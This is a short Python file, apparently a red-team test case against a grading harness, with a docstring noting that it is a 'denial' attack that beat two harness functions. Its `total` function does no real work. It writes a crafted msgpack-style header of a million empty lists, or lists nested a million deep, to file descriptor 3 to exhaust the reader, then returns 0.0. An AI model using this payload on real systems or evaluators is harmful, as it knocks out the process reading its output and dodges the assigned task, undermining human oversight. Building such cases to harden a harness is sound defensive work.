"""
tries = "sends headers that cost the reader much: a million empty lists, and lists in lists"
kind = "denial"
failed = ["total", "total_again"]
staff.total = "frame"
staff.total_again = "frame"
"""

import os
import struct


def total(x):
    if x.ndim == 1:
        header = b"\x95\xa1r\xdd" + struct.pack(">I", 1_000_000) + b"\x90" * 1_000_000
    else:
        header = b"\x91" * 1_000_000
    data = struct.pack(">IQ", len(header), 0) + header
    while data:
        data = data[os.write(3, data) :]
    return 0.0
